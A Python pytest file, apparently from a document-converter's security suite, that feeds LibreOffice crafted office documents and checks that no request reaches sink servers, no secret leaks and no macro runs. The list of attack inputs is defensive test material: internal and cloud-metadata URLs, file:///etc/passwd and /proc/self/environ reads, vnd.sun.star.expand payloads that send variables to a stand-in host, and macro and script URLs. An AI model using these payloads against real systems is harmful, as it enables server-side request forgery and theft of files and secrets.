"""Row 32: what LibreOffice would tell: its variables in addresses, providers, web services, macros, OLE and DDE links."""

import contextlib
from pathlib import Path

import pytest

from libs.contracts.documents import Format
from services.converter import watchdog
from tests.converter import samples
from tests.faults.rig import asking, canaries, internet
from tests.faults.rig.internet import PUBLIC, SECOND
from tests.faults.rig.names import naming
from tests.faults.rig.siege import PRINTED, Attack, besieged
from tests.faults.rig.sinks import sinking

#: Inner addresses, and public ones: LibreOffice is to ask neither.
HOSTS = ("127.0.0.1", "10.0.0.5", "169.254.169.254", PUBLIC, SECOND)
#: After CVE-2024-12426 and its like: addresses that LibreOffice expands, asks by other ways, or runs.
HTTP = tuple(f"http://{host}{path}" for host in HOSTS for path in ("/x.png", "/x.csv", ":8080/$HOME"))
FILES = ("file:///etc/passwd", "file:///var/opt/canary.png", "file:///proc/self/environ")
EXPAND = (
    *(f"vnd.sun.star.expand:http://{PUBLIC}/$CANARY", "vnd.sun.star.expand:http://10.0.0.5/${HOME}/$PRINTBUS_CANARY"),
    *("vnd.sun.star.expand:$CANARY", "vnd.sun.star.expand:file://$HOME/../etc/passwd", "vnd.sun.star.expand:file:///etc/passwd"),
    *("vnd.sun.star.expand:${file:///etc/passwd::root}", "vnd.sun.star.expand:${.override:/etc/passwd:root}"),
)
PACKAGES = (
    *(
        "vnd.sun.star.pkg://file%3A%2F%2F%2Fvar%2Fopt%2Fcanary.odt/Pictures/x.png",
        "vnd.sun.star.zip://file:///var/opt/canary.odt/x",
    ),
    *("vnd.sun.star.tdoc:/1/content.xml", "vnd.sun.star.hier:/x", f"vnd.sun.star.pkg://http%3A%2F%2F{SECOND}%2Fx.odt/x"),
)
OTHERS = (
    *(f"vnd.sun.star.webdav://{SECOND}/x", f"vnd.sun.star.webdavs://{SECOND}/x", f"smb://{SECOND}/x", f"ftp://{SECOND}/x"),
    *("vnd.sun.star.script:Standard.Module1.Main?language=Basic&location=document", "macro:///Standard.Module1.Main"),
    *("vnd.sun.star.script:/tmp/x.py$main?language=Python&location=user", ".uno:OpenUrl?URL:string=file:///etc/passwd"),
    *("slot:5500", "private:factory/swriter", "javascript:1", f"//{SECOND}/share/x.png"),
)
GROUPS = {"http": HTTP, "files": FILES, "expand": EXPAND, "packages": PACKAGES, "other schemes": OTHERS}
ADDRESSES = tuple(at for group in GROUPS.values() for at in group)


def attacks():
    """Documents with all of these; LibreOffice may refuse to load what it cannot expand, or end: nothing is shown then either."""
    hard = (PRINTED, "broken", "crash", "empty")
    made = [
        Attack("a docx", Format.WORD, asking.word(ADDRESSES), hard),
        Attack("a pptx", Format.PPT, asking.slides(ADDRESSES), hard),
        Attack("an xlsx", Format.EXCEL, asking.workbook(ADDRESSES), hard),
        Attack("an odt whose macro writes elsewhere", Format.ODT, asking.text([], "/var/opt/touched"), (PRINTED,)),
    ]
    for name, group in GROUPS.items():
        if name in ("http", "files", "expand"):
            ends = hard if name == "expand" else (PRINTED,)
            made.append(Attack(f"an odt with macros and {name}", Format.ODT, asking.text(group), ends))
            made.append(Attack(f"an ods with macros and {name}", Format.ODS, asking.sheet(group), hard))
    return made


def environments(siege):
    """The variables of each process of each lane of LibreOffice, by its program."""
    found = []
    for pid in (pid for lane in siege.converter.engines.lanes._ready for pid in watchdog.members(lane.pid)):
        with contextlib.suppress(OSError):  # it has ended meanwhile
            program, entries = Path(f"/proc/{pid}/comm").read_text().strip(), Path(f"/proc/{pid}/environ").read_bytes()
            found.append((program, {entry.partition(b"=")[0].decode() for entry in entries.split(b"\0") if entry}, entries))
    return found


async def ask(row):
    """All of it, in a network of our own where each of these addresses is a sink, also the public ones."""
    made = attacks()
    row.did(
        f"{len(made)} documents (docx, pptx, xlsx, odt, ods), two at the same time, with {len(ADDRESSES)} addresses as "
        "linked pictures, objects, sections, tables, providers, DDE and OLE links and WEBSERVICE(): http to "
        "inner and to public "
        "addresses, vnd.sun.star.expand: with $HOME, $CANARY and files, vnd.sun.star.pkg:, webdav, smb, scripts; and macros on "
        "loading that write a file, run a shell and ask an address."
    )
    async with sinking(HOSTS) as sinks, naming({}):
        places = await sinks.proven()
        good = (Format.TEXT, Format.WORD, Format.EXCEL)
        async with besieged(row, *good, waiting=good, convert_timeout=40.0) as siege:
            lanes = environments(siege)
            assert any("soffice" in program for program, _, _ in lanes), "LibreOffice runs"
            names = set().union(*(each for _, each, _ in lanes))
            assert not any(canaries.WORD.encode() in entries for _, _, entries in lanes)
            ends = await siege.against(*made, abreast=2, times=1)
            assert all(
                not path.exists() for path in (Path("/var/opt/touched"), *siege.settings.engines_dir.glob("office-*/touched"))
            )
            papers = [end for end in ends if end.made]
            assert {Format.WORD, Format.ODT} <= {end.attack.kind for end in papers}
            assert all("words before" in samples.read(end.made).text for end in papers if end.attack.kind is Format.ODT)
            found = {end.attack.name: shown for end in papers if (shown := canaries.found(end.made))}
            control = await siege._convert(Format.HTML, f"<p>{canaries.WORD}</p>".encode())
            assert canaries.found(control), "the search finds a canary that is there"
            await siege.calm()
            assert (found, sinks.hits) == ({}, []), f"{found} {sinks.hits}"
            row.saw(
                f"{places} sinks on inner and on public addresses had 0 hits ({places} in the control, when each was asked "
                "directly), 0 "
                f"canaries are in the {len(papers)} PDFs, no macro left a file. LibreOffice's whole environment is "
                f"{', '.join(sorted(names))}.",
                hits=0,
                canaries=0,
                pdfs=len(papers),
            )
        assert sinks.hits == [], "nor while the engines ended"


@pytest.mark.row(32)
@pytest.mark.timeout(400)
async def test_row_32_libreoffice_asks_nobody_and_runs_nothing(row):
    await internet.check(row, f"{__name__}:ask")
